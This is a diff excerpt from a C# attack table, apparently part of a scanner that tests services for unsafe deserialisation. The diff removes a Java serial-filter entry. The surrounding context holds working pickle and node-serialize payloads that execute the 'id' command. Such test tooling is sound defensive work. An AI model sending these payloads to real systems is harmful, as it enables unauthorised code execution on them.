@@ -28,7 +28,6 @@ internal static class Attacks
         new()
         {
             Name = "deserialize", Rows = "3", Title = "unsafe deserialisation (pickle, node-serialize, ObjectInputStream, assembly from bytes)", Op = "deserialize", Evidence = "uid=", FromEvent = true,
-            Unasked = new Dictionary<string, string> { ["java"] = "the JVM's serial filter" },
             Values = new Dictionary<string, string>
             {
                 ["python"] = "gASVJQAAAAAAAACMCnN1YnByb2Nlc3OUjAlnZXRvdXRwdXSUk5SMAmlklIWUUpQu", ["node"] = "{\"x\":\"_$$ND_FUNC$$_function(){return require('child_process').execSync('id').toString()}()\"}",
